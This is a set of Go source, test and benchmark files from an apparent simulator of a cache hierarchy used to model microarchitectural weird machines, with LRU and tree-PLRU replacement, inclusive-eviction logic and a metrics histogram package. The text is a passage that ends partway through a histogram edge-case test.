// BenchmarkHierarchyHit measures the L1-hit fast path.
func BenchmarkHierarchyHit(b *testing.B) {
	h := NewHierarchy(DefaultHierarchyConfig())
	h.LoadData(0x1000)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		h.LoadData(0x1000)
	}
}

// BenchmarkHierarchyMissSweep measures repeated full-hierarchy misses.
func BenchmarkHierarchyMissSweep(b *testing.B) {
	h := NewHierarchy(DefaultHierarchyConfig())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		addr := mem.Addr(i) * 64 % (1 << 24)
		h.LoadData(addr)
	}
}

// BenchmarkFlushTouch measures the flush/refill cycle every weird
// register write performs.
func BenchmarkFlushTouch(b *testing.B) {
	h := NewHierarchy(DefaultHierarchyConfig())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		h.FlushData(0x2000)
		h.LoadData(0x2000)
	}
}

// BenchmarkLRUInsert measures raw set-associative insertion.
func BenchmarkLRUInsert(b *testing.B) {
	c := New(Config{Name: "b", Sets: 64, Ways: 8, Latency: 4})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Insert(mem.Addr(i*64) % (1 << 20))
	}
}
