// Package cache models the set-associative cache hierarchy the μWM
// computes with. Weird registers store bits as the presence or absence of
// a line in a cache; weird gates read them back as the latency of a load.
// The model therefore tracks presence, replacement state and per-level
// latency, but not data contents (data lives in package mem — caches in
// this simulator are a pure timing structure, which is exactly the aspect
// the paper exploits).
package cache

import (
	"fmt"

	"uwm/internal/mem"
)

// ReplacementPolicy selects a victim way within a set and tracks
// recency. Implementations: LRU and tree-PLRU (the two policies found in
// the paper's target parts; LRU-state weird registers in Table 1 rely on
// this state being real).
type ReplacementPolicy interface {
	// Touch records a hit on way w of set s.
	Touch(s, w int)
	// Victim returns the way to evict from set s.
	Victim(s int) int
	// Reset clears all recency state.
	Reset()
}

// LRU is a true least-recently-used policy.
type LRU struct {
	ways  int
	stamp [][]uint64
	clock uint64
}

// NewLRU returns an LRU policy for sets×ways.
func NewLRU(sets, ways int) *LRU {
	l := &LRU{ways: ways, stamp: make([][]uint64, sets)}
	for i := range l.stamp {
		l.stamp[i] = make([]uint64, ways)
	}
	return l
}

// Touch implements ReplacementPolicy.
func (l *LRU) Touch(s, w int) {
	l.clock++
	l.stamp[s][w] = l.clock
}

// Victim implements ReplacementPolicy.
func (l *LRU) Victim(s int) int {
	best, bestStamp := 0, l.stamp[s][0]
	for w := 1; w < l.ways; w++ {
		if l.stamp[s][w] < bestStamp {
			best, bestStamp = w, l.stamp[s][w]
		}
	}
	return best
}

// Reset implements ReplacementPolicy.
func (l *LRU) Reset() {
	for s := range l.stamp {
		for w := range l.stamp[s] {
			l.stamp[s][w] = 0
		}
	}
	l.clock = 0
}

// TreePLRU is the binary-tree pseudo-LRU policy used by Intel L1 caches.
// Ways must be a power of two.
type TreePLRU struct {
	ways int
	bits [][]bool // per set: ways-1 internal tree nodes
}

// NewTreePLRU returns a tree-PLRU policy for sets×ways.
func NewTreePLRU(sets, ways int) *TreePLRU {
	if ways&(ways-1) != 0 {
		panic(fmt.Sprintf("cache: tree-PLRU needs power-of-two ways, got %d", ways))
	}
	t := &TreePLRU{ways: ways, bits: make([][]bool, sets)}
	for i := range t.bits {
		t.bits[i] = make([]bool, ways-1)
	}
	return t
}

// Touch implements ReplacementPolicy: flip tree nodes away from way w.
func (t *TreePLRU) Touch(s, w int) {
	node := 0
	lo, hi := 0, t.ways
	for hi-lo > 1 {
		mid := (lo + hi) / 2
		if w < mid {
			t.bits[s][node] = true // point away: right half is older
			node = 2*node + 1
			hi = mid
		} else {
			t.bits[s][node] = false
			node = 2*node + 2
			lo = mid
		}
	}
}

// Victim implements ReplacementPolicy: follow tree nodes toward the
// pseudo-least-recently-used way.
func (t *TreePLRU) Victim(s int) int {
	node := 0
	lo, hi := 0, t.ways
	for hi-lo > 1 {
		mid := (lo + hi) / 2
		if t.bits[s][node] {
			node = 2*node + 2
			lo = mid
		} else {
			node = 2*node + 1
			hi = mid
		}
	}
	return lo
}

// Reset implements ReplacementPolicy.
func (t *TreePLRU) Reset() {
	for s := range t.bits {
		for i := range t.bits[s] {
			t.bits[s][i] = false
		}
	}
}

// Config describes one cache level's geometry.
type Config struct {
	Name    string
	Sets    int
	Ways    int
	Latency int64 // hit latency in cycles
	PLRU    bool  // tree-PLRU instead of true LRU
}

// Stats counts accesses per cache.
type Stats struct {
	Hits, Misses, Evictions, Flushes uint64
}

// Cache is one set-associative cache level. Lines are identified by their
// line address; contents are not stored.
type Cache struct {
	cfg    Config
	tags   [][]mem.Addr // line address per way; 0 means invalid
	valid  [][]bool
	policy ReplacementPolicy
	stats  Stats
}

// New returns an empty cache with the given geometry.
func New(cfg Config) *Cache {
	if cfg.Sets <= 0 || cfg.Ways <= 0 {
		panic(fmt.Sprintf("cache %s: invalid geometry %d×%d", cfg.Name, cfg.Sets, cfg.Ways))
	}
	c := &Cache{
		cfg:   cfg,
		tags:  make([][]mem.Addr, cfg.Sets),
		valid: make([][]bool, cfg.Sets),
	}
	for i := 0; i < cfg.Sets; i++ {
		c.tags[i] = make([]mem.Addr, cfg.Ways)
		c.valid[i] = make([]bool, cfg.Ways)
	}
	if cfg.PLRU {
		c.policy = NewTreePLRU(cfg.Sets, cfg.Ways)
	} else {
		c.policy = NewLRU(cfg.Sets, cfg.Ways)
	}
	return c
}

// Config returns the cache's geometry.
func (c *Cache) Config() Config { return c.cfg }

// Stats returns access counters.
func (c *Cache) Stats() Stats { return c.stats }

// SetIndex returns the set index of addr in this cache.
func (c *Cache) SetIndex(addr mem.Addr) int {
	return int(uint64(addr.Line()) / mem.LineSize % uint64(c.cfg.Sets))
}

// Contains reports whether addr's line is present, without touching
// replacement state (a pure probe, used by tests and the analyzer — real
// attackers cannot do this, which tests make explicit).
func (c *Cache) Contains(addr mem.Addr) bool {
	line := addr.Line()
	s := c.SetIndex(addr)
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] && c.tags[s][w] == line {
			return true
		}
	}
	return false
}

// Access looks up addr, updating recency on hit. It reports hit/miss and
// does not fill on miss (Hierarchy decides fills).
func (c *Cache) Access(addr mem.Addr) bool {
	line := addr.Line()
	s := c.SetIndex(addr)
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] && c.tags[s][w] == line {
			c.policy.Touch(s, w)
			c.stats.Hits++
			return true
		}
	}
	c.stats.Misses++
	return false
}

// Insert fills addr's line, evicting the policy's victim if the set is
// full. It returns the evicted line address, if any.
func (c *Cache) Insert(addr mem.Addr) (evicted mem.Addr, didEvict bool) {
	line := addr.Line()
	s := c.SetIndex(addr)
	// Already present: just touch.
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] && c.tags[s][w] == line {
			c.policy.Touch(s, w)
			return 0, false
		}
	}
	// Free way?
	for w := 0; w < c.cfg.Ways; w++ {
		if !c.valid[s][w] {
			c.valid[s][w] = true
			c.tags[s][w] = line
			c.policy.Touch(s, w)
			return 0, false
		}
	}
	// Evict.
	w := c.policy.Victim(s)
	evicted = c.tags[s][w]
	c.tags[s][w] = line
	c.policy.Touch(s, w)
	c.stats.Evictions++
	return evicted, true
}

// Flush invalidates addr's line if present, reporting whether it was.
func (c *Cache) Flush(addr mem.Addr) bool {
	line := addr.Line()
	s := c.SetIndex(addr)
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] && c.tags[s][w] == line {
			c.valid[s][w] = false
			c.stats.Flushes++
			return true
		}
	}
	return false
}

// FlushAll empties the cache.
func (c *Cache) FlushAll() {
	for s := range c.valid {
		for w := range c.valid[s] {
			c.valid[s][w] = false
		}
	}
	c.policy.Reset()
}

// SetContents returns the line addresses currently valid in addr's set,
// a diagnostic probe for eviction-set debugging.
func (c *Cache) SetContents(addr mem.Addr) []mem.Addr {
	s := c.SetIndex(addr)
	var out []mem.Addr
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] {
			out = append(out, c.tags[s][w])
		}
	}
	return out
}

// SetOccupancy returns how many ways of addr's set are valid, used by
// eviction-set constructions (the NOT/NAND gates evict a line by filling
// its set).
func (c *Cache) SetOccupancy(addr mem.Addr) int {
	s := c.SetIndex(addr)
	n := 0
	for w := 0; w < c.cfg.Ways; w++ {
		if c.valid[s][w] {
			n++
		}
	}
	return n
}
