package cache

import (
	"testing"
	"testing/quick"

	"uwm/internal/mem"
)

func smallCache(ways int, plru bool) *Cache {
	return New(Config{Name: "t", Sets: 4, Ways: ways, Latency: 1, PLRU: plru})
}

// addrIn returns an address mapping to the given set, way-distinct by i.
func addrIn(c *Cache, set, i int) mem.Addr {
	stride := mem.Addr(c.Config().Sets * mem.LineSize)
	return mem.Addr(set*mem.LineSize) + mem.Addr(i)*stride
}

func TestInsertAndHit(t *testing.T) {
	c := smallCache(2, false)
	a := addrIn(c, 1, 0)
	if c.Access(a) {
		t.Error("hit in empty cache")
	}
	c.Insert(a)
	if !c.Access(a) {
		t.Error("miss after insert")
	}
	if !c.Contains(a + 63) { // same line
		t.Error("Contains should match any address in the line")
	}
	if c.Contains(a + 64) {
		t.Error("Contains matched the next line")
	}
}

func TestLRUEviction(t *testing.T) {
	c := smallCache(2, false)
	a, b, d := addrIn(c, 0, 0), addrIn(c, 0, 1), addrIn(c, 0, 2)
	c.Insert(a)
	c.Insert(b)
	c.Access(a) // a is now MRU
	evicted, did := c.Insert(d)
	if !did || evicted != b.Line() {
		t.Errorf("evicted %#x, want %#x", uint64(evicted), uint64(b.Line()))
	}
	if !c.Contains(a) || c.Contains(b) || !c.Contains(d) {
		t.Error("post-eviction contents wrong")
	}
}

func TestFlush(t *testing.T) {
	c := smallCache(2, false)
	a := addrIn(c, 2, 0)
	c.Insert(a)
	if !c.Flush(a) {
		t.Error("flush of present line reported absent")
	}
	if c.Flush(a) {
		t.Error("second flush reported present")
	}
	if c.Contains(a) {
		t.Error("line survives flush")
	}
}

func TestFlushAllAndStats(t *testing.T) {
	c := smallCache(4, false)
	for i := 0; i < 8; i++ {
		c.Insert(addrIn(c, i%4, i/4))
	}
	c.FlushAll()
	for i := 0; i < 8; i++ {
		if c.Contains(addrIn(c, i%4, i/4)) {
			t.Fatal("line survives FlushAll")
		}
	}
	c.Access(addrIn(c, 0, 0))
	st := c.Stats()
	if st.Misses == 0 {
		t.Error("stats not counting misses")
	}
}

// TestNFillsEvictVictimLRU is the eviction-set invariant the NAND/NOT
// gates rely on: inserting `ways` fresh lines into a set that holds a
// recently touched victim evicts the victim under true LRU.
func TestNFillsEvictVictimLRU(t *testing.T) {
	c := smallCache(8, false)
	victim := addrIn(c, 3, 100)
	c.Insert(victim)
	c.Access(victim) // victim is MRU
	for i := 0; i < 8; i++ {
		c.Insert(addrIn(c, 3, i))
	}
	if c.Contains(victim) {
		t.Error("victim survived a full eviction-set sweep")
	}
}

func TestSetOccupancy(t *testing.T) {
	c := smallCache(4, false)
	base := addrIn(c, 1, 0)
	if c.SetOccupancy(base) != 0 {
		t.Error("fresh set not empty")
	}
	c.Insert(addrIn(c, 1, 0))
	c.Insert(addrIn(c, 1, 1))
	if got := c.SetOccupancy(base); got != 2 {
		t.Errorf("occupancy = %d, want 2", got)
	}
}

func TestTreePLRUCoversAllWays(t *testing.T) {
	// Insert 8 distinct lines into an 8-way PLRU set: all must land in
	// distinct ways (every line still present afterwards).
	c := smallCache(8, true)
	for i := 0; i < 8; i++ {
		c.Insert(addrIn(c, 0, i))
	}
	for i := 0; i < 8; i++ {
		if !c.Contains(addrIn(c, 0, i)) {
			t.Errorf("line %d missing after filling the set", i)
		}
	}
}

func TestTreePLRUVictimNotMRU(t *testing.T) {
	c := smallCache(8, true)
	for i := 0; i < 8; i++ {
		c.Insert(addrIn(c, 0, i))
	}
	// Touch line 5, then insert a new line: 5 must survive.
	c.Access(addrIn(c, 0, 5))
	c.Insert(addrIn(c, 0, 99))
	if !c.Contains(addrIn(c, 0, 5)) {
		t.Error("tree-PLRU evicted the most recently used line")
	}
}

func TestTreePLRUNonPowerOfTwoPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("expected panic for 6-way tree-PLRU")
		}
	}()
	NewTreePLRU(4, 6)
}

func TestHierarchyLatencies(t *testing.T) {
	h := NewHierarchy(DefaultHierarchyConfig())
	cfg := h.Config()
	addr := mem.Addr(0x4000)

	lat, lvl := h.LoadData(addr)
	if lvl != LevelMem || lat != cfg.L1D.Latency+cfg.L2.Latency+cfg.MemLatency {
		t.Errorf("cold load: lat=%d lvl=%v", lat, lvl)
	}
	lat, lvl = h.LoadData(addr)
	if lvl != LevelL1 || lat != cfg.L1D.Latency {
		t.Errorf("warm load: lat=%d lvl=%v", lat, lvl)
	}
	// Evict from L1 only (flush L1D directly) → next access is L2.
	h.L1D().Flush(addr)
	lat, lvl = h.LoadData(addr)
	if lvl != LevelL2 || lat != cfg.L1D.Latency+cfg.L2.Latency {
		t.Errorf("L2 load: lat=%d lvl=%v", lat, lvl)
	}
}

func TestHierarchyFlushRemovesEverywhere(t *testing.T) {
	h := NewHierarchy(DefaultHierarchyConfig())
	addr := mem.Addr(0x8000)
	h.LoadData(addr)
	h.FlushData(addr)
	if h.DataCached(addr) || h.L2().Contains(addr) {
		t.Error("flush left the line somewhere")
	}
	if _, lvl := h.LoadData(addr); lvl != LevelMem {
		t.Error("post-flush load did not go to memory")
	}
}

// TestInclusionBackInvalidate is the invariant behind the eviction-set
// gates: filling a victim's L2 set pushes the victim out of L1 too.
func TestInclusionBackInvalidate(t *testing.T) {
	h := NewHierarchy(DefaultHierarchyConfig())
	victim := mem.Addr(0x10000)
	h.LoadData(victim)
	if !h.DataCached(victim) {
		t.Fatal("victim not in L1D")
	}
	// L2 set stride: sets × line size.
	stride := mem.Addr(h.L2().Config().Sets * mem.LineSize)
	for i := 1; i <= h.L2().Config().Ways; i++ {
		h.LoadData(victim + mem.Addr(i)*stride)
	}
	if h.L2().Contains(victim) {
		t.Error("victim survived an L2 eviction-set sweep")
	}
	if h.DataCached(victim) {
		t.Error("back-invalidation failed: victim still in L1D after L2 eviction")
	}
}

func TestInstDataSplit(t *testing.T) {
	h := NewHierarchy(DefaultHierarchyConfig())
	addr := mem.Addr(0x2000)
	h.FetchInst(addr)
	if !h.InstCached(addr) {
		t.Error("fetch did not fill L1I")
	}
	if h.DataCached(addr) {
		t.Error("instruction fetch filled L1D")
	}
	// But both share L2.
	if !h.L2().Contains(addr) {
		t.Error("fetch did not fill unified L2")
	}
}

func TestStoreIsWriteAllocate(t *testing.T) {
	h := NewHierarchy(DefaultHierarchyConfig())
	addr := mem.Addr(0x3000)
	if _, lvl := h.StoreData(addr); lvl != LevelMem {
		t.Error("cold store level wrong")
	}
	if !h.DataCached(addr) {
		t.Error("store did not allocate the line")
	}
}

// TestSetIndexProperty: any two addresses a line apart map to adjacent
// sets (mod set count).
func TestSetIndexProperty(t *testing.T) {
	c := New(Config{Name: "p", Sets: 64, Ways: 8, Latency: 1})
	f := func(a uint32) bool {
		addr := mem.Addr(a)
		s1 := c.SetIndex(addr)
		s2 := c.SetIndex(addr + mem.LineSize)
		return s2 == (s1+1)%64
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBadGeometryPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("expected panic for zero sets")
		}
	}()
	New(Config{Name: "bad", Sets: 0, Ways: 1})
}
