package cache

import "uwm/internal/metrics"

// Metric series exported per cache level, distinguished by the "level"
// label (L1D, L1I, L2).
const (
	MetricHits      = "uwm_cache_hits_total"
	MetricMisses    = "uwm_cache_misses_total"
	MetricEvictions = "uwm_cache_evictions_total"
	MetricFlushes   = "uwm_cache_flushes_total"
)

// RegisterMetrics exposes this cache's access counters on reg, labelled
// with the level name. The counters are read lazily at scrape time, so
// the cache's hot lookup path is untouched.
func (c *Cache) RegisterMetrics(reg *metrics.Registry) {
	if reg == nil {
		return
	}
	lbl := metrics.L("level", c.cfg.Name)
	reg.CounterFunc(MetricHits, "cache hits by level",
		func() uint64 { return c.stats.Hits }, lbl)
	reg.CounterFunc(MetricMisses, "cache misses by level",
		func() uint64 { return c.stats.Misses }, lbl)
	reg.CounterFunc(MetricEvictions, "cache evictions by level",
		func() uint64 { return c.stats.Evictions }, lbl)
	reg.CounterFunc(MetricFlushes, "cache line flushes by level",
		func() uint64 { return c.stats.Flushes }, lbl)
}

// RegisterMetrics exposes every level's counters on reg.
func (h *Hierarchy) RegisterMetrics(reg *metrics.Registry) {
	h.l1d.RegisterMetrics(reg)
	h.l1i.RegisterMetrics(reg)
	h.l2.RegisterMetrics(reg)
}
