package cache

import "uwm/internal/mem"

// Level identifies where in the hierarchy an access was served.
type Level int

// Hierarchy levels, fastest first.
const (
	LevelL1 Level = iota + 1
	LevelL2
	LevelMem
)

// String returns the conventional name of the level.
func (l Level) String() string {
	switch l {
	case LevelL1:
		return "L1"
	case LevelL2:
		return "L2"
	case LevelMem:
		return "MEM"
	default:
		return "?"
	}
}

// HierarchyConfig describes the simulated two-level cache hierarchy plus
// memory latency. The defaults mirror a Skylake-class client part, the
// paper's experimental platform (§6.1).
type HierarchyConfig struct {
	L1D        Config
	L1I        Config
	L2         Config
	MemLatency int64 // DRAM access latency in cycles (before jitter)
}

// DefaultHierarchyConfig returns the Skylake-like geometry used across
// the repository: 32 KiB 8-way L1D and L1I, 256 KiB (modelled as 1024×8)
// shared inclusive L2, 4/14/175-cycle latencies. The DRAM latency is
// calibrated so that a timed flushed-line read (which also pays the
// ~30-cycle rdtscp overhead) measures ≈224 cycles, the median of the
// paper's Tables 6 and 7.
func DefaultHierarchyConfig() HierarchyConfig {
	return HierarchyConfig{
		L1D:        Config{Name: "L1D", Sets: 64, Ways: 8, Latency: 4, PLRU: true},
		L1I:        Config{Name: "L1I", Sets: 64, Ways: 8, Latency: 1, PLRU: true},
		L2:         Config{Name: "L2", Sets: 1024, Ways: 8, Latency: 14},
		MemLatency: 175,
	}
}

// Hierarchy is the two-level inclusive cache hierarchy. Data and
// instruction L1s are split; L2 is unified. All μWM timing behaviour
// flows from the latencies returned here.
type Hierarchy struct {
	cfg HierarchyConfig
	l1d *Cache
	l1i *Cache
	l2  *Cache
}

// NewHierarchy builds an empty hierarchy.
func NewHierarchy(cfg HierarchyConfig) *Hierarchy {
	return &Hierarchy{
		cfg: cfg,
		l1d: New(cfg.L1D),
		l1i: New(cfg.L1I),
		l2:  New(cfg.L2),
	}
}

// Config returns the hierarchy configuration.
func (h *Hierarchy) Config() HierarchyConfig { return h.cfg }

// L1D returns the level-1 data cache (for probes and stats).
func (h *Hierarchy) L1D() *Cache { return h.l1d }

// L1I returns the level-1 instruction cache.
func (h *Hierarchy) L1I() *Cache { return h.l1i }

// L2 returns the unified level-2 cache.
func (h *Hierarchy) L2() *Cache { return h.l2 }

// LoadData performs a data access to addr: it returns the latency in
// cycles and the level that served it, and fills all missed levels
// (inclusive hierarchy).
func (h *Hierarchy) LoadData(addr mem.Addr) (int64, Level) {
	if h.l1d.Access(addr) {
		return h.cfg.L1D.Latency, LevelL1
	}
	if h.l2.Access(addr) {
		h.fillL1D(addr)
		return h.cfg.L1D.Latency + h.cfg.L2.Latency, LevelL2
	}
	h.fillL2(addr)
	h.fillL1D(addr)
	return h.cfg.L1D.Latency + h.cfg.L2.Latency + h.cfg.MemLatency, LevelMem
}

// StoreData performs a data store. The model is write-allocate, so the
// timing and fill behaviour match LoadData; stores are what speculative
// bodies use to set an output DC-WR ("out_c = 42").
func (h *Hierarchy) StoreData(addr mem.Addr) (int64, Level) {
	return h.LoadData(addr)
}

// FetchInst performs an instruction fetch of the line containing addr.
func (h *Hierarchy) FetchInst(addr mem.Addr) (int64, Level) {
	if h.l1i.Access(addr) {
		return h.cfg.L1I.Latency, LevelL1
	}
	if h.l2.Access(addr) {
		h.l1i.Insert(addr)
		return h.cfg.L1I.Latency + h.cfg.L2.Latency, LevelL2
	}
	h.fillL2(addr)
	h.l1i.Insert(addr)
	return h.cfg.L1I.Latency + h.cfg.L2.Latency + h.cfg.MemLatency, LevelMem
}

// fillL2 inserts a line into L2 and, because the hierarchy is inclusive,
// back-invalidates any line the insertion evicted from both L1s. The
// eviction-set weird gates (NOT/NAND) depend on this: filling a victim's
// L2 set pushes the victim all the way out of the hierarchy.
func (h *Hierarchy) fillL2(addr mem.Addr) {
	if victim, evicted := h.l2.Insert(addr); evicted {
		h.l1d.Flush(victim)
		h.l1i.Flush(victim)
	}
}

// fillL1D inserts a line into L1D, maintaining inclusion (an L1D
// eviction needs no back-invalidate since L2 is the superset).
func (h *Hierarchy) fillL1D(addr mem.Addr) {
	h.l1d.Insert(addr)
}

// FlushData removes addr's line from every level, the semantics of
// clflush. Inclusion requires flushing L1s when L2 loses the line.
func (h *Hierarchy) FlushData(addr mem.Addr) {
	h.l1d.Flush(addr)
	h.l1i.Flush(addr)
	h.l2.Flush(addr)
}

// FlushInst removes a code line from every level (clflush on code).
func (h *Hierarchy) FlushInst(addr mem.Addr) { h.FlushData(addr) }

// DataCached reports (without perturbing recency) whether addr hits in
// L1D — the probe used by tests and by the defender model.
func (h *Hierarchy) DataCached(addr mem.Addr) bool { return h.l1d.Contains(addr) }

// InstCached reports whether addr's line is in L1I.
func (h *Hierarchy) InstCached(addr mem.Addr) bool { return h.l1i.Contains(addr) }

// FlushAll empties every level.
func (h *Hierarchy) FlushAll() {
	h.l1d.FlushAll()
	h.l1i.FlushAll()
	h.l2.FlushAll()
}
