package metrics

import (
	"fmt"
	"io"
	"math"
	"sort"
	"sync/atomic"

	"uwm/internal/stats"
)

// Histogram is a fixed-bucket histogram with atomically updated
// counts, built for high-rate observation of simulated latencies and
// window lengths. Bucket layout is fixed at registration; quantiles
// are estimated by linear interpolation inside the covering bucket.
// The nil Histogram is a valid, disabled instrument.
type Histogram struct {
	bounds    []float64       // ascending upper bounds; an implicit +Inf bucket follows
	counts    []atomic.Uint64 // len(bounds)+1
	count     atomic.Uint64
	sum       atomic.Uint64 // float64 bits, CAS-updated
	min       atomic.Int64  // observed minimum, for the underflow-bucket lower edge
	hasMin    atomic.Bool
	exemplars []atomic.Pointer[Exemplar] // len(bounds)+1; newest exemplar per bucket
}

// Exemplar links one observed sample to an identity — typically a
// trace id — so a histogram bucket points at a retrievable recording
// instead of an anonymous count. Exposition renders it as an
// OpenMetrics exemplar suffix on the bucket line.
type Exemplar struct {
	Labels []Label
	Value  float64
}

// DefaultLatencyBuckets covers the simulator's timing range: L1 hits
// (~35 cycles with rdtscp overhead) through DRAM misses (~224) up to
// contended multi-miss reads.
func DefaultLatencyBuckets() []float64 {
	return []float64{16, 32, 48, 64, 96, 128, 160, 192, 224, 256, 320, 448, 640, 1024}
}

// DefaultWindowBuckets covers speculative-window lengths, which range
// from collapsed (0) through the TSX base window (~160) and jittered
// DRAM-resolution windows.
func DefaultWindowBuckets() []float64 {
	return []float64{0, 20, 40, 80, 120, 160, 200, 260, 340, 500, 800}
}

func newHistogram(bounds []float64) *Histogram {
	bs := append([]float64(nil), bounds...)
	sort.Float64s(bs)
	h := &Histogram{
		bounds:    bs,
		counts:    make([]atomic.Uint64, len(bs)+1),
		exemplars: make([]atomic.Pointer[Exemplar], len(bs)+1),
	}
	return h
}

// NewHistogram returns a standalone histogram that is not attached to
// any registry — for internal estimators (e.g. the flight recorder's
// per-type latency quantiles) that want bucketed quantile math without
// appearing in an exposition. Bounds are upper bucket edges; an
// implicit +Inf bucket is appended.
func NewHistogram(bounds []float64) *Histogram { return newHistogram(bounds) }

// bucketFor returns the index of the first bucket whose upper bound
// admits x (the +Inf bucket for values above every bound).
func (h *Histogram) bucketFor(x float64) int {
	// Linear scan: bucket counts are small (≈15) and the scan beats a
	// binary search's branch misses at this size.
	for i, b := range h.bounds {
		if x <= b {
			return i
		}
	}
	return len(h.bounds)
}

// Observe records one sample.
func (h *Histogram) Observe(x float64) {
	if h == nil {
		return
	}
	h.counts[h.bucketFor(x)].Add(1)
	h.count.Add(1)
	for {
		old := h.sum.Load()
		next := math.Float64bits(math.Float64frombits(old) + x)
		if h.sum.CompareAndSwap(old, next) {
			break
		}
	}
	xi := int64(x)
	if !h.hasMin.Load() {
		h.min.Store(xi)
		h.hasMin.Store(true)
	} else if xi < h.min.Load() {
		h.min.Store(xi)
	}
}

// ObserveExemplar records one sample and attaches an exemplar to its
// bucket, replacing any earlier exemplar there. The exemplar labels
// identify where the sample came from (e.g. trace_id), letting a
// reader jump from a suspicious bucket straight to the recording that
// landed in it.
func (h *Histogram) ObserveExemplar(x float64, labels ...Label) {
	if h == nil {
		return
	}
	h.Observe(x)
	ex := &Exemplar{Labels: append([]Label(nil), labels...), Value: x}
	h.exemplars[h.bucketFor(x)].Store(ex)
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	return math.Float64frombits(h.sum.Load())
}

// Mean returns the average observation, or 0 with no samples.
func (h *Histogram) Mean() float64 {
	n := h.Count()
	if n == 0 {
		return 0
	}
	return h.Sum() / float64(n)
}

// lowerEdge returns the inclusive lower edge of bucket i.
func (h *Histogram) lowerEdge(i int) float64 {
	if i == 0 {
		if h.hasMin.Load() {
			if m := float64(h.min.Load()); m < h.bounds[0] {
				return m
			}
		}
		return 0
	}
	return h.bounds[i-1]
}

// Quantile estimates the q-quantile (0 ≤ q ≤ 1) by locating the bucket
// holding the q·N-th sample and interpolating linearly inside it —
// the bucketed analogue of stats.Quantile's order-statistic
// interpolation. Samples in the +Inf bucket clamp to the top bound, so
// the result is always finite. Out-of-range and NaN q clamp into
// [0, 1].
func (h *Histogram) Quantile(q float64) float64 {
	if h == nil || h.Count() == 0 {
		return 0
	}
	if len(h.bounds) == 0 {
		// Degenerate layout: only the open bucket exists, so the
		// observed minimum is the one finite edge we can report.
		if h.hasMin.Load() {
			return float64(h.min.Load())
		}
		return 0
	}
	// The negated comparisons are NaN-safe: NaN fails both and clamps
	// to 0 rather than producing a NaN target that matches no bucket.
	if !(q >= 0) {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	target := q * float64(h.count.Load())
	var cum float64
	for i := range h.counts {
		n := float64(h.counts[i].Load())
		if cum+n >= target && n > 0 {
			if i == len(h.bounds) {
				return h.bounds[len(h.bounds)-1] // open bucket: clamp
			}
			lo := h.lowerEdge(i)
			frac := (target - cum) / n
			return lo + frac*(h.bounds[i]-lo)
		}
		cum += n
	}
	if len(h.bounds) > 0 {
		return h.bounds[len(h.bounds)-1]
	}
	return 0
}

// Bins converts the histogram to stats.Bin buckets, reusing the stats
// package's histogram representation so the result can be rendered
// with stats.RenderHistogram. The open top bucket is rendered with a
// synthetic upper edge one bucket-width above the last bound.
func (h *Histogram) Bins() []stats.Bin {
	if h == nil || len(h.bounds) == 0 {
		return nil
	}
	out := make([]stats.Bin, 0, len(h.counts))
	for i := range h.counts {
		lo := h.lowerEdge(i)
		var hi float64
		if i < len(h.bounds) {
			hi = h.bounds[i]
		} else {
			last := h.bounds[len(h.bounds)-1]
			width := last
			if len(h.bounds) > 1 {
				width = last - h.bounds[len(h.bounds)-2]
			}
			hi = last + width
		}
		out = append(out, stats.Bin{Lo: lo, Hi: hi, Count: int(h.counts[i].Load())})
	}
	return out
}

// writeText renders the histogram in Prometheus exposition form:
// cumulative le-labelled buckets plus _sum and _count.
func (h *Histogram) writeText(w io.Writer, name string, labels []Label) error {
	var cum uint64
	for i := range h.counts {
		cum += h.counts[i].Load()
		le := "+Inf"
		if i < len(h.bounds) {
			le = formatValue(h.bounds[i])
		}
		// OpenMetrics exemplar suffix: " # {labels} value" after the
		// bucket sample. Prometheus text-format parsers that predate
		// exemplars treat "#" as a comment start, so the line stays
		// readable either way.
		suffix := ""
		if ex := h.exemplars[i].Load(); ex != nil {
			suffix = fmt.Sprintf(" # %s %s", formatLabels(ex.Labels), formatValue(ex.Value))
		}
		if _, err := fmt.Fprintf(w, "%s_bucket%s %d%s\n",
			name, formatLabels(labels, L("le", le)), cum, suffix); err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintf(w, "%s_sum%s %s\n", name, formatLabels(labels), formatValue(h.Sum())); err != nil {
		return err
	}
	_, err := fmt.Fprintf(w, "%s_count%s %d\n", name, formatLabels(labels), h.Count())
	return err
}
