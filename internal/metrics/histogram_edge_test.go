package metrics

import (
	"math"
	"testing"
)

// TestQuantileEmptyHistogram covers the no-sample and nil cases: both
// must report 0, never NaN.
func TestQuantileEmptyHistogram(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("uwm_empty_cycles", "", []float64{10, 20})
	for _, q := range []float64{0, 0.5, 1} {
		if got := h.Quantile(q); got != 0 {
			t.Errorf("empty histogram Quantile(%v) = %v, want 0", q, got)
		}
	}
	var nilH *Histogram
	if got := nilH.Quantile(0.5); got != 0 {
		t.Errorf("nil histogram Quantile = %v, want 0", got)
	}
}

// TestQuantileNoBounds covers the degenerate single-open-bucket layout:
// every sample lands in the +Inf bucket and there is no bound to clamp
// to, so Quantile must fall back to the observed minimum instead of
// indexing bounds[-1].
func TestQuantileNoBounds(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("uwm_unbounded_cycles", "", nil)
	if got := h.Quantile(0.5); got != 0 {
		t.Errorf("no-bounds empty Quantile = %v, want 0", got)
	}
	h.Observe(37)
	h.Observe(99)
	for _, q := range []float64{0, 0.5, 1} {
		got := h.Quantile(q)
		if math.IsInf(got, 0) || math.IsNaN(got) {
			t.Fatalf("no-bounds Quantile(%v) = %v, want finite", q, got)
		}
		if got != 37 {
			t.Errorf("no-bounds Quantile(%v) = %v, want the observed minimum 37", q, got)
		}
